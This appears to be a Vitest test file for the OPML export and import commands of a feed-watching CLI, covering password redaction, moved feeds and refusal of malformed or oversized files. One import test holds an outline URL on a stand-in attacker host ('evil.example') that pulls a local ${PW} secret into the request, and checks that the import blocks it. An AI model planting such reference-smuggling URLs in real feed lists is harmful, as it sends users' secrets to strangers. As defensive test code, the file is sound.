import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { openLedger } from '../../src/ledger/open-ledger.ts';
import { runCli } from '../support/cli.ts';
import { testFolder } from '../support/ledger.ts';

const EMPTY = '# mine\nfeeds: [] # none yet\ntopics:\n  - Venezuela # and more\n';
const NEW_URL = 'https://moved.example/feed';

let folder: string;
beforeEach(() => {
  folder = testFolder();
});

const path = (name: string) => join(folder, name);
const write = (name: string, text: string) => writeFileSync(path(name), text);
const read = (name: string) => readFileSync(path(name), 'utf8');
const env = { PW: 'hunter2' };
const vigia = (...args: string[]) => runCli(args, { cwd: folder, env });

describe('export', () => {
  const FEEDS = `# all of them
feeds:
  - https://plain.example/feed # one
  - { url: "https://user:\${PW}@secret.example/feed", name: "Tom & <Jerry>", every: 10m, tags: ["a, b", c/d, "\\"q\\""] }
  - &spanish
    url: https://el-pais.example/rss
    name: El País
    cron: "*/10 * * * *"
    fullText: true
    tags: [spanish]
  - { <<: *spanish, url: "https://la-nacion.example/rss", name: La Nación }
topics: [Venezuela]
`;

  test('and import again: the same feeds with all that was said of them', async () => {
    write('watchlist.yaml', FEEDS);
    const { status, stdout, stderr } = await vigia('export', 'feeds.opml');
    expect([status, stdout, stderr]).toEqual([0, 'Exported 4 feeds to feeds.opml.\n', '']);
    expect(read('feeds.opml')).not.toContain('hunter2');
    write('other.yaml', EMPTY);
    expect(await vigia('import', 'feeds.opml', '--allow-references', '--config', 'other.yaml')).toMatchObject(
      {
        status: 0,
        stdout: 'Added 4 feeds to other.yaml.\n',
        stderr:
          'https://***@secret.example/feed takes ${PW} from this machine, and sends it to secret.example.\n',
      },
    );
    const feeds = async (file: string) =>
      JSON.parse((await vigia('feeds', '--json', '--config', file)).stdout);
    expect(await feeds('other.yaml')).toEqual(
      (await feeds('watchlist.yaml')).map((feed: { since: unknown }) => ({ ...feed, since: null })),
    );
    expect(read('other.yaml')).toContain('url: https://user:${PW}@secret.example/feed');
    expect((await vigia('export', '--config', 'other.yaml')).stdout.replace(/<dateCreated>.*/, '')).toBe(
      read('feeds.opml').replace(/<dateCreated>.*/, ''),
    );
  });

  test('is what other readers read', async () => {
    write('watchlist.yaml', FEEDS);
    const { stdout } = await vigia('export');
    expect(stdout).toMatch(/^<\?xml version="1.0" encoding="UTF-8"\?>\n<opml version="2.0"/);
    expect(stdout).toMatch(/<dateCreated>\w{3}, \d\d \w{3} \d{4} \d\d:\d\d:\d\d GMT<\/dateCreated>/);
    expect(stdout).toContain('<docs>http://opml.org/spec2.opml</docs>');
    expect(stdout).toContain(`    <outline text="spanish" title="spanish">
      <outline type="rss" text="El País" title="El País" xmlUrl="https://el-pais.example/rss" category="spanish"`);
  });

  test('says no password, and says that it was left out', async () => {
    write(
      'watchlist.yaml',
      'feeds: ["https://me:hunter2@a.example/f", "https://b.example/f?token=hunter2"]\ntopics: [A]\n',
    );
    const { status, stdout, stderr } = await vigia('export');
    expect(status).toBe(0);
    expect(stdout + stderr).not.toContain('hunter2');
    expect(stdout).toContain('xmlUrl="https://a.example/f"');
    expect(stderr.match(/was left out; write it as \$\{NAME\}/g)).toHaveLength(2);
  });

  test('says where two feeds become one by that, and shows no stars for a title', async () => {
    const feeds = ['one:hunter2', 'two:hunter3'].map((user) => `"https://${user}@a.example/f"`);
    write('watchlist.yaml', `feeds: [${feeds.join(', ')}]\ntopics: [A]\n`);
    const { stdout, stderr } = await vigia('export');
    expect(stdout).toContain('title="https://a.example/f"');
    expect(stdout).not.toContain('***');
    expect(stderr).toContain(
      'https://a.example/f: 2 feeds of the watchlist have this one address here; an import takes them for one feed.\n',
    );
  });

  test('knows titles, pages and new addresses from the database', async () => {
    write('watchlist.yaml', 'feeds: [https://old.example/feed]\ntopics: [A]\n');
    const ledger = openLedger(path('vigia.db'), 'own');
    ledger.feeds.watchOnly([{ url: 'https://old.example/feed', schedule: 'rhythm' }], 0);
    const [row] = ledger.feeds.watched();
    if (row === undefined) throw new Error('the feed is not watched');
    const link = 'https://old.example/';
    ledger.feeds.update({
      ...row,
      title: 'The Old',
      link,
      movedTo: NEW_URL,
      movedSince: Date.parse('2026-01-01'),
    });
    ledger.close();
    const plain = await vigia('export');
    expect(plain.stdout).toContain(
      'text="The Old" title="The Old" xmlUrl="https://old.example/feed" htmlUrl="https://old.example/"',
    );
    expect(plain.stderr).toMatch(/^1 feed moved for good.*--moved/);
    const moved = await vigia('export', '--moved');
    expect(moved.stdout).toContain(`xmlUrl="${NEW_URL}"`);
    expect(moved.stderr).toBe('');
    const [feed] = JSON.parse((await vigia('feeds', '--json')).stdout);
    expect(feed).toMatchObject({ movedTo: NEW_URL, movedSince: '2026-01-01T00:00:00.000Z' });
    expect((await vigia('feeds')).stdout).toContain(`moved to ${NEW_URL} on 2026-01-01`);
  });

  test('to - goes to stdout, and never over the watchlist', async () => {
    write('watchlist.yaml', FEEDS);
    const { status, stdout } = await vigia('export', '-');
    expect([status, stdout]).toEqual([0, expect.stringMatching(/^<\?xml/)]);
    const over = await vigia('export', 'watchlist.yaml', '--force');
    expect([over.status, over.stdout, over.stderr]).toEqual([
      1,
      '',
      expect.stringMatching(/^watchlist\.yaml is the watchlist; nothing was written/),
    ]);
    expect(read('watchlist.yaml')).toBe(FEEDS);
    expect(readdirSync(folder)).toEqual(['watchlist.yaml']);
  });

  test('is not written where it can’t be', async () => {
    write('watchlist.yaml', EMPTY);
    const { status, stderr } = await vigia('export', 'no/such/folder.opml');
    expect(status).toBe(1);
    expect(stderr).toMatch(/^no\/such\/folder\.opml can't be written: its folder does not exist\./);
  });
});

describe('import', () => {
  const OPML = `<opml version="2.0"><body>
<outline text="News"><outline type="rss" text="A" xmlUrl="https://a.example/feed"/>
<outline type="rss" text="B" xmlUrl="HTTPS://B.example:443/feed"/></outline>
<outline text="More"><outline type="rss" text="A" xmlUrl="https://a.example/feed"/></outline>
<outline type="rss" text="F" xmlUrl="ftp://f.example/feed"/>
<outline type="rss" text="G"/>
</body></opml>`;

  test('adds what is new, keeps what is there, and says what can’t be', async () => {
    write('watchlist.yaml', EMPTY.replace('[]', '[https://b.example/feed]'));
    write('in.opml', OPML);
    const { status, stdout, stderr } = await vigia('import', 'in.opml', '--tag', 'imported');
    expect(status).toBe(1);
    expect(stdout).toBe('Added 1 feed to watchlist.yaml; 1 was there already.\n');
    expect(stderr.split('\n')).toEqual([
      'HTTPS://B.example:443/feed is in the watchlist already.',
      expect.stringMatching(/^line 5: feed: "ftp:\/\/f\.example\/feed" begins with ftp:/),
      'line 6: "G" has no xmlUrl',
      '2 outlines could not be taken.',
      '',
    ]);
    expect(read('watchlist.yaml')).toBe(
      EMPTY.replace(
        '[]',
        '[https://b.example/feed, {"url":"https://a.example/feed","name":"A","tags":["News","More","imported"]}]',
      ),
    );
  });

  test('from stdin, without writing, as JSON', async () => {
    write('watchlist.yaml', EMPTY);
    const { status, stdout } = await runCli(['import', '-', '--dry-run', '--json'], {
      cwd: folder,
      input: OPML,
    });
    expect(status).toBe(1);
    expect(JSON.parse(stdout)).toEqual({
      file: path('watchlist.yaml'),
      dryRun: true,
      added: [
        { url: 'https://a.example/feed', name: 'A', tags: ['News', 'More'] },
        { url: 'HTTPS://B.example:443/feed', name: 'B', tags: ['News'] },
      ],
      known: [],
      refused: [
        { line: 5, message: expect.stringContaining('ftp') },
        { line: 6, message: '"G" has no xmlUrl' },
      ],
    });
    expect(read('watchlist.yaml')).toBe(EMPTY);
    const text = await runCli(['import', '-', '--dry-run'], { cwd: folder, input: OPML });
    expect(text.stdout).toBe(
      'https://a.example/feed A [News, More]\nHTTPS://B.example:443/feed B [News]\nWould add 2 feeds to watchlist.yaml.\n',
    );
  });

  test('takes no secret of ours for a stranger, and none that is not there', async () => {
    write('watchlist.yaml', EMPTY);
    const outline =
      '<outline xmlUrl="https://evil.example/?${PW}"/><outline xmlUrl="https://a.example/${NONE}" vigia:name=""/>';
    write('in.opml', `<opml><body>${outline}</body></opml>`);
    const careful = await vigia('import', 'in.opml');
    expect(careful.status).toBe(1);
    expect(careful.stderr).toMatch(/line 1: .*takes \$\{NONE\} from this machine; .*--allow-references/);
    const { status, stderr } = await vigia('import', 'in.opml', '--allow-references');
    expect(status).toBe(1);
    expect(stderr).toMatch(
      /line 1: .*only a file that `vigia export` wrote may hold references, also with --allow-references/,
    );
    expect(stderr).toMatch(/line 1: .*NONE is not set/);
    expect(read('watchlist.yaml')).toBe(EMPTY);
  });

  test.each([
    ['a file that is not there', 'none.opml', null, /^none\.opml does not exist\.\n$/],
    [
      'a file that is none',
      'in.opml',
      '<rss version="2.0"><channel/></rss>',
      /^in\.opml is no OPML file .*it is a feed/,
    ],
    ['a file without end', 'in.opml', ' '.repeat(10 * 1024 * 1024 + 1), /^in\.opml is larger than 10 MiB/],
  ])('%s is refused in a sentence', async (_name, file, text, message) => {
    write('watchlist.yaml', EMPTY);
    if (text !== null) write(file, text);
    const { status, stdout, stderr } = await vigia('import', file);
    expect([status, stdout, stderr]).toEqual([1, '', expect.stringMatching(message)]);
    expect(read('watchlist.yaml')).toBe(EMPTY);
  });

  test('of more than a watchlist may hold changes nothing', async () => {
    write('watchlist.yaml', EMPTY);
    const outlines = Array.from(
      { length: 6_000 },
      (_, n) => `<outline xmlUrl="https://a.example/${n}${'x'.repeat(900)}"/>`,
    );
    write('in.opml', `<opml><body>${outlines.join('\n')}</body></opml>`);
    const { status, stderr } = await vigia('import', 'in.opml');
    expect([status, stderr]).toEqual([1, expect.stringContaining('larger than the 5 MiB')]);
    expect(read('watchlist.yaml')).toBe(EMPTY);
  });

  test('of five thousand feeds takes seconds', async () => {
    write('watchlist.yaml', EMPTY);
    const outlines = Array.from(
      { length: 5_000 },
      (_, n) => `<outline text="Feed ${n}" xmlUrl="https://h${n}.example/feed"/>`,
    );
    write('in.opml', `<opml><body><outline text="all">${outlines.join('\n')}</outline></body></opml>`);
    expect(await vigia('import', 'in.opml')).toMatchObject({
      status: 0,
      stdout: 'Added 5000 feeds to watchlist.yaml.\n',
    });
    expect((await vigia('check')).status).toBe(0);
  }, 60_000);
});
